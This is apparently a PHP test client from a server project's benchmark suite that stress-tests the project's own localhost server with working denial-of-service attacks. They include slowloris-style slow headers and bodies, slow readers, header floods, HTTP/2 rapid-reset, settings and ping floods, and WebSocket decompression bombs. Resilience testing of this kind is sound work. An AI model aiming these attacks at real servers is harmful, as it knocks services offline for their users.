<?php
/* SPDX-License-Identifier: Apache-2.0. Part of cserve.
 *
 * The attackers of bench/run abuse. Each attack goes on, as fast as it can, until the process is killed. Prints "PORT" and
 * the server's port when what has to stand stands, and from then on "STAT" with the connections opened and bytes sent so far.
 * usage: abuse_client.php ATTACK PORT CONNECTIONS [BYTES]
 */
declare(strict_types=1);

use Swoole\Coroutine;
use Swoole\Coroutine\Socket;

/** Ends a connection's part of an attack: the server has closed. */
final class Closed extends RuntimeException
{
}

final class Attack
{
	private const OPENERS = 50;

	public int $opened = 0;
	public int $bytes = 0;
	/** @var Socket[] */
	public array $standing = [];

	public function __construct(private int $port)
	{
	}

	public function connect(): Socket
	{
		for (;;) {
			$socket = new Socket(AF_INET, SOCK_STREAM, 0);
			if ($socket->connect('127.0.0.1', $this->port, 5)) {
				$this->opened++;
				return $socket;
			}
			$socket->close();
			Coroutine::sleep(0.01);
		}
	}

	public function send(Socket $socket, string $bytes): void
	{
		if ($socket->sendAll($bytes, 60) !== strlen($bytes)) {
			throw new Closed();
		}
		$this->bytes += strlen($bytes);
	}

	public function receive(Socket $socket): string
	{
		$bytes = $socket->recv(65536, 60);
		return $bytes === false || $bytes === '' ? throw new Closed() : $bytes;
	}

	/** Opens so many connections, begins each with $begin, and replaces those that the server closes. */
	public function stand(int $count, callable $begin): void
	{
		$left = $count;
		$group = new Coroutine\WaitGroup();
		for ($i = 0; $i < self::OPENERS; $i++) {
			$group->add();
			Coroutine::create(function () use (&$left, $begin, $group) {
				while ($left-- > 0) {
					$socket = $this->connect();
					$begin($socket);
					$this->standing[] = $socket;
				}
				$group->done();
			});
		}
		$group->wait();
	}

	/** So many connections at a time, each of which does $work until the server ends it, and then comes again. */
	public function swarm(int $count, callable $work): void
	{
		for ($i = 0; $i < $count; $i++) {
			Coroutine::create(function () use ($work) {
				for (;;) {
					$socket = $this->connect();
					try {
						$work($socket);
					} catch (Closed) {
					}
					$socket->close();
				}
			});
		}
	}

	/** Sends on and on, whatever comes back; a server that ends its side is left at once. */
	public function flood(Socket $socket, string $begin, callable|string $more): void
	{
		Coroutine::create(function () use ($socket) {
			while ($socket->recv(65536, 60)) {
			}
			$socket->shutdown(2);
		});
		$this->send($socket, $begin);
		for (;;) {
			$this->send($socket, is_string($more) ? $more : $more());
			Coroutine::sleep(0.001); /* a server that takes everything lets nobody else come */
		}
	}
}

function h2_frame(int $type, int $flags, int $stream, string $payload = ''): string
{
	return substr(pack('N', strlen($payload)), 1) . chr($type) . chr($flags) . pack('N', $stream) . $payload;
}

/** Static table: GET, http, /; and an authority. */
const H2_REQUEST = "\x82\x86\x84\x41\x01a";
const H2_PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0";

const WEBSOCKET_HANDSHAKE = "GET / HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
	. "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
	. "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n";

function websocket_frame(string $payload, int $first): string
{
	$length = strlen($payload);
	$head = $length < 126 ? chr(128 | $length) : ($length < 65536 ? "\xfe" . pack('n', $length) : "\xff" . pack('J', $length));
	return chr($first) . $head . "\0\0\0\0" . $payload;
}

$attacks = [
	/* Half a head, and now and then a byte more. */
	'half heads' => function (Attack $attack, int $count) {
		$attack->stand($count, fn ($socket) => $attack->send($socket, "GET / HTTP/1.1\r\nHost: a\r\nX-Slow: "));
		Coroutine::create(function () use ($attack) {
			for (;;) {
				foreach ($attack->standing as $i => $socket) {
					if ($socket->sendAll('a', 5) !== 1) {
						$attack->standing[$i] = $attack->connect();
						$attack->send($attack->standing[$i], "GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ");
					}
					if ($i % 10 === 9) {
						Coroutine::sleep(0.005);
					}
				}
			}
		});
	},
	/* Many answers of a megabyte are wanted, and read at a thousand bytes a second. */
	'slow readers' => function (Attack $attack, int $count) {
		$attack->stand($count, function ($socket) use ($attack) {
			$socket->setOption(SOL_SOCKET, SO_RCVBUF, 4096);
			$attack->send($socket, str_repeat("GET /megabyte HTTP/1.1\r\nHost: a\r\n\r\n", 50));
			$socket->recv(1000, 60);
		});
		Coroutine::create(function () use ($attack) {
			for (;;) {
				foreach ($attack->standing as $i => $socket) {
					$socket->recv(1000, 0.001);
				}
				Coroutine::sleep(0.5);
			}
		});
	},
	/* Bodies that are promised and come a byte at a time. */
	'slow bodies' => function (Attack $attack, int $count) {
		$attack->stand($count, fn ($socket) => $attack->send($socket,
			"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 2000000\r\n\r\n"
			. "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"f\"\r\n\r\n" . str_repeat('x', 4000)));
		Coroutine::create(function () use ($attack) {
			for (;;) {
				foreach ($attack->standing as $i => $socket) {
					$socket->sendAll('x', 5);
					if ($i % 10 === 9) {
						Coroutine::sleep(0.005);
					}
				}
			}
		});
	},
	/* Header lines without an end. */
	'header floods' => fn (Attack $attack, int $count) => $attack->swarm($count, function ($socket) use ($attack) {
		static $lines;
		$lines ??= implode(array_map(fn ($i) => "X-Header-$i: " . str_repeat('y', 100) . "\r\n", range(1, 100)));
		$attack->flood($socket, "GET / HTTP/1.1\r\nHost: a\r\n", $lines);
	}),
	'HTTP/2 resets' => fn (Attack $attack, int $count) => $attack->swarm($count, function ($socket) use ($attack) {
		$stream = 1;
		$attack->flood($socket, H2_PREFACE, function () use (&$stream) {
			for ($frames = '', $i = 0; $i < 100; $i++, $stream += 2) {
				$frames .= h2_frame(1, 5, $stream, H2_REQUEST) . h2_frame(3, 0, $stream, "\0\0\0\x08");
			}
			return $frames;
		});
	}),
	'HTTP/2 settings' => fn (Attack $attack, int $count) => $attack->swarm($count,
		fn ($socket) => $attack->flood($socket, H2_PREFACE, str_repeat(h2_frame(4, 0, 0, "\0\3\0\0\0\x64"), 500))),
	'HTTP/2 pings' => fn (Attack $attack, int $count) => $attack->swarm($count,
		fn ($socket) => $attack->flood($socket, H2_PREFACE, str_repeat(h2_frame(6, 0, 0, 'abcdefgh'), 500))),
	/* A few kilobytes that become more than a message may have. */
	'WebSocket bombs' => fn (Attack $attack, int $count) => $attack->swarm($count, function ($socket) use ($attack) {
		static $bomb;
		$bomb ??= websocket_frame(gzdeflate(str_repeat("\0", 64 << 20), 9), 0xc2);
		$attack->flood($socket, WEBSOCKET_HANDSHAKE, $bomb);
	}),
	/* The same, each within what a message may have, when the one before was answered. */
	'WebSocket zeros' => fn (Attack $attack, int $count) => $attack->swarm($count, function ($socket) use ($attack) {
		static $message;
		$message ??= websocket_frame(gzdeflate(str_repeat("\0", 2000000), 9), 0xc2);
		$attack->send($socket, WEBSOCKET_HANDSHAKE);
		$attack->receive($socket);
		for (;;) {
			$attack->send($socket, $message);
			$attack->receive($socket);
		}
	}),
	/* One file of a form. */
	'upload' => function (Attack $attack, int $count, int $size) {
		$head = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"f\"\r\n\r\n";
		$end = "\r\n--b--\r\n";
		$attack->swarm($count, function ($socket) use ($attack, $head, $end, $size) {
			$length = strlen($head) + $size + strlen($end);
			$attack->send($socket, "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=b\r\n"
				. "Content-Length: $length\r\n\r\n$head");
			$piece = random_bytes(1 << 20);
			for ($left = $size; $left > 0; $left -= strlen($piece)) {
				$attack->send($socket, $left < strlen($piece) ? substr($piece, 0, $left) : $piece);
			}
			$attack->send($socket, $end);
			for ($answer = ''; !preg_match('/\r\n\r\n(\d+)$/', $answer, $m); ) {
				$answer .= $attack->receive($socket);
			}
			echo "UPLOADED $m[1]\n";
			Coroutine::sleep(1000);
		});
	},
	/* Each has had an answer. */
	'idle connections' => fn (Attack $attack, int $count) => $attack->stand($count, function ($socket) use ($attack) {
		$attack->send($socket, "GET / HTTP/1.1\r\nHost: a\r\n\r\n");
		$attack->receive($socket);
	}),
];

[, $name, $port, $count] = $argv;
Coroutine\run(function () use ($attacks, $name, $port, $count, $argv) {
	$attack = new Attack((int) $port);
	$attacks[$name]($attack, (int) $count, (int) ($argv[4] ?? 0));
	echo "PORT $port\n";
	for (;;) {
		Coroutine::sleep(0.2);
		echo "STAT {$attack->opened} {$attack->bytes}\n";
	}
});
